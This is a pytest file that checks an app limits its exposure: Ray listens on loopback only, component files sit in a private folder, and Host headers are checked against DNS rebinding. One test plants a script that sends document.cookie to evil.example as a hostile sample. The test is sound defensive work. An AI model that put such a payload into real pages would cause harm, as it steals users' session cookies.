"""Smaller exposure (issue 24): what the app and its engines open to other users and other machines.

The local Ray instance listens on 127.0.0.1 only; the map component's files live in a private
folder of this user's and go with their map; the app answers only to its own Host names.
"""

from __future__ import annotations

import os
import socket
import subprocess
import sys
from pathlib import Path

import pytest

REPO = Path(__file__).resolve().parents[1]
LOOPBACK = {"127.0.0.1", "::1", "::ffff:127.0.0.1"}


# --- Ray: every server of the local instance on the loopback interface -----------------------------


def listening_sockets() -> dict[str, tuple[str, int]]:
    """Every listening TCP socket on this machine, by inode: (address, port)."""
    found = {}
    for family, table in ((socket.AF_INET, "/proc/net/tcp"), (socket.AF_INET6, "/proc/net/tcp6")):
        with open(table) as fh:
            rows = fh.read().splitlines()[1:]
        for row in rows:
            fields = row.split()
            local, state, inode = fields[1], fields[3], fields[9]
            if state != "0A":  # TCP_LISTEN
                continue
            hex_ip, hex_port = local.split(":")
            raw = bytes.fromhex(hex_ip)
            # /proc writes each 32-bit word of the address in host (little-endian) order.
            raw = b"".join(raw[i:i + 4][::-1] for i in range(0, len(raw), 4))
            found[inode] = (socket.inet_ntop(family, raw), int(hex_port, 16))
    return found


def process_tree(root: int) -> list[int]:
    """``root`` and every process below it."""
    children: dict[int, list[int]] = {}
    for entry in os.listdir("/proc"):
        if entry.isdigit():
            try:
                with open(f"/proc/{entry}/stat") as fh:
                    ppid = int(fh.read().rsplit(")", 1)[1].split()[1])
            except OSError:  # gone meanwhile
                continue
            children.setdefault(ppid, []).append(int(entry))
    tree, todo = [root], [root]
    while todo:
        for child in children.get(todo.pop(), []):
            tree.append(child)
            todo.append(child)
    return tree


def listeners_of(root: int) -> list[tuple[int, str, str, int]]:
    """(pid, command, address, port) for every listening socket held by ``root``'s process tree."""
    sockets = listening_sockets()
    held = []
    for pid in process_tree(root):
        try:
            command = Path(f"/proc/{pid}/comm").read_text().strip()
            fds = os.listdir(f"/proc/{pid}/fd")
        except OSError:
            continue
        for fd in fds:
            try:
                target = os.readlink(f"/proc/{pid}/fd/{fd}")
            except OSError:
                continue
            if target.startswith("socket:[") and target[8:-1] in sockets:
                held.append((pid, command, *sockets[target[8:-1]]))
    return sorted(set(held))


RAY_DRIVER = """
import sys
from pathlib import Path
import ray
import ray.data
from explorer.engine_ray import ray_session

with ray_session(None, log_path=Path(sys.argv[1])):
    ray.data.range(8).map_batches(lambda batch: batch).count()  # starts a worker, as a build does
    print("ready", flush=True)
    sys.stdin.readline()
"""


@pytest.mark.slow
def test_the_local_ray_instance_listens_on_127_0_0_1_only(tmp_path):
    pytest.importorskip("ray")
    driver = subprocess.Popen(
        [sys.executable, "-c", RAY_DRIVER, str(tmp_path / "ray-start.log")], cwd=REPO, text=True,
        stdin=subprocess.PIPE, stdout=subprocess.PIPE, stderr=subprocess.DEVNULL,
        env={**os.environ, "RAY_DATA_DISABLE_PROGRESS_BARS": "1"},
    )
    try:
        while (line := driver.stdout.readline()) and line.strip() != "ready":
            pass
        assert line.strip() == "ready", "the Ray driver exited before its instance was up"
        held = listeners_of(driver.pid)
    finally:
        driver.stdin.close()
        driver.wait(timeout=120)
    commands = {command for _, command, _, _ in held}
    # The GCS, the raylet (node and object manager) and the driver's own core worker at least.
    assert {"gcs_server", "raylet"} <= commands, held
    exposed = [row for row in held if row[2] not in LOOPBACK]
    assert not exposed, f"Ray listens beyond this machine: {exposed}"


# --- The map component's files: a private folder of this server's, removed with their map -----------


@pytest.fixture
def private_tmp(tmp_path, monkeypatch):
    """tempfile's folder moved under the test's own, and the component's folder made afresh."""
    import tempfile

    from explorer.ui import widget

    scratch = tmp_path / "tmp"
    scratch.mkdir()
    monkeypatch.setattr(tempfile, "tempdir", str(scratch))
    widget.frontend_folder.clear()
    yield scratch
    widget.frontend_folder.clear()


def _old_predictable_folder(scratch: Path) -> Path:
    """Where the component's files used to go: /tmp/explorer-map-<hash of the files>, anyone's to make."""
    import hashlib

    from plotly.offline import get_plotlyjs

    from explorer.ui.widget import FRONTEND

    files = {path.name: path.read_bytes() for path in sorted(FRONTEND.iterdir()) if path.is_file()}
    files["plotly.min.js"] = get_plotlyjs().encode("utf-8")
    stamp = hashlib.sha256(b"".join(name.encode() + data for name, data in files.items())).hexdigest()[:16]
    return scratch / f"explorer-map-{stamp}"


def test_a_folder_planted_at_the_old_predictable_path_is_not_used(private_tmp):
    from explorer.ui.widget import frontend_folder

    planted = _old_predictable_folder(private_tmp)
    planted.mkdir()
    (planted / "index.html").write_text("<script>fetch('https://evil.example/?' + document.cookie)</script>")
    planted.chmod(0o777)
    from explorer.ui.widget import stage_frontend

    folder = Path(frontend_folder())
    assert folder != planted
    expected = private_tmp / "expected"
    expected.mkdir()
    stage_frontend(expected)
    assert (folder / "index.html").read_bytes() == (expected / "index.html").read_bytes()
    assert b"evil.example" not in (folder / "index.html").read_bytes()


def test_the_component_folder_is_private_and_ours(private_tmp):
    import stat

    from explorer.ui.widget import frontend_folder

    folder = Path(frontend_folder())
    info = folder.lstat()
    assert stat.S_ISDIR(info.st_mode) and not folder.is_symlink()
    assert info.st_uid == os.getuid()
    assert stat.S_IMODE(info.st_mode) == 0o700


def test_deleting_a_map_removes_its_staged_titles(private_tmp, papers_frame, monkeypatch):
    import time

    from streamlit.testing.v1 import AppTest

    from explorer import Workspace, build_map
    from explorer.ui.widget import frontend_folder

    monkeypatch.setenv("EXPLORER_DEFAULT_MODEL", "hashing")
    build_map(papers_frame, name="secret map", model="hashing", workspace=Workspace())
    at = AppTest.from_file(str(REPO / "app.py"), default_timeout=120)
    at.run()
    at.selectbox(key="open_choice").set_value("secret map")
    at.button(key="open_saved").click().run()
    assert not at.exception, at.exception
    folder = Path(frontend_folder())
    title = papers_frame["title"].iloc[0]

    def staged() -> list[Path]:
        return [p for p in folder.rglob("*") if p.is_file() and title.encode() in p.read_bytes()]

    deadline = time.monotonic() + 20
    while not staged() and time.monotonic() < deadline:  # titles are written in the background
        time.sleep(0.1)
    assert staged(), "the map's titles were never staged for the browser"

    library = AppTest.from_file(str(REPO / "pages" / "1_Library.py"), default_timeout=120)
    library.run()
    library.checkbox(key="library_confirm_delete").check().run()
    library.button(key="library_delete").click().run()
    assert not library.exception, library.exception
    assert Workspace().list() == []
    assert staged() == [], "the deleted map's titles are still served from the component's folder"


# --- The Host header: a page reached through another name (DNS rebinding) shows one line -------------


@pytest.mark.parametrize(("host", "address", "extra", "allowed"), [
    ("localhost:8501", "127.0.0.1", (), True),
    ("127.0.0.1:8501", "127.0.0.1", (), True),
    ("[::1]:8501", "localhost", (), True),
    ("LOCALHOST.:8501", "127.0.0.1", (), True),
    ("evil.example:8501", "127.0.0.1", (), False),
    ("evil.example", "127.0.0.1", (), False),
    ("localhost:9999", "127.0.0.1", (), False),  # another port: a forward, not this app (name it to allow it)
    ("localhost:9999", "127.0.0.1", ("localhost",), True),
    ("localhost.evil.example:8501", "127.0.0.1", (), False),
    ("user@localhost:8501", "127.0.0.1", (), False),
    ("localhost:85x1", "127.0.0.1", (), False),
    ("maps.example.org", "127.0.0.1", ("maps.example.org",), True),  # behind a reverse proxy
    ("evil.example:8501", "0.0.0.0", (), True),  # shared with the network on purpose
    ("evil.example:8501", "0.0.0.0", ("maps.example.org",), False),
    (None, "127.0.0.1", (), True),  # no request behind the run (AppTest)
])
def test_which_host_headers_reach_the_app(host, address, extra, allowed):
    from explorer.ui.host import host_allowed

    assert host_allowed(host, address=address, port=8501, extra=extra) is allowed


def test_every_page_checks_the_host_before_anything_else():
    import ast

    for script in [REPO / "app.py", *sorted((REPO / "pages").glob("*.py"))]:
        body = ast.parse(script.read_text(encoding="utf-8")).body
        calls = [i for i, node in enumerate(body) if isinstance(node, ast.Expr) and isinstance(node.value, ast.Call)
                 and getattr(node.value.func, "id", None) == "guard_host"]
        assert calls, f"{script.name} does not call guard_host()"
        for node in body[:calls[0]]:
            source = ast.unparse(node)
            assert isinstance(node, ast.Import | ast.ImportFrom | ast.FunctionDef) or "set_page_config" in source \
                or isinstance(node.value if isinstance(node, ast.Expr) else None, ast.Constant) \
                or (isinstance(node, ast.Assign) and "st." not in source), \
                f"{script.name} runs {source!r} before guard_host()"


@pytest.mark.slow
@pytest.mark.browser
def test_a_page_reached_through_another_name_shows_one_line_and_no_map(tmp_path, papers_frame):
    from playwright.sync_api import sync_playwright
    from streamlit_server import CHROMIUM_ARGS, MAP_IFRAME, chromium_path, streamlit_server

    from explorer import Workspace, build_map

    home = tmp_path / "server-home"
    build_map(papers_frame, name="secret map", model="hashing", projection=None, workspace=Workspace(home))
    secret = papers_frame["title"].iloc[0]
    with streamlit_server(home, env={"EXPLORER_DEFAULT_MODEL": "hashing"}) as url, sync_playwright() as p:
        port = url.rsplit(":", 1)[1]
        # evil.example resolves to this machine, as a DNS-rebinding page makes its own name do.
        browser = p.chromium.launch(executable_path=chromium_path(),
                                    args=[*CHROMIUM_ARGS, "--host-resolver-rules=MAP evil.example 127.0.0.1"])
        try:
            for path in ("/?map=secret+map", "/Library"):
                page = browser.new_page()
                page.goto(f"http://evil.example:{port}{path}")
                alert = page.locator('[data-testid="stAlert"]')
                alert.first.wait_for(timeout=60_000)
                assert "answers only on this machine" in alert.first.inner_text()
                page.wait_for_timeout(1500)
                text = page.locator("body").inner_text()
                assert secret not in text and "secret map" not in text, path
                assert page.locator("iframe").count() == 0, path
                page.close()
            page = browser.new_page()  # the same server through its own name still opens the map
            page.goto(f"http://localhost:{port}/?map=secret+map")
            page.locator(MAP_IFRAME).wait_for(timeout=90_000)
        finally:
            browser.close()
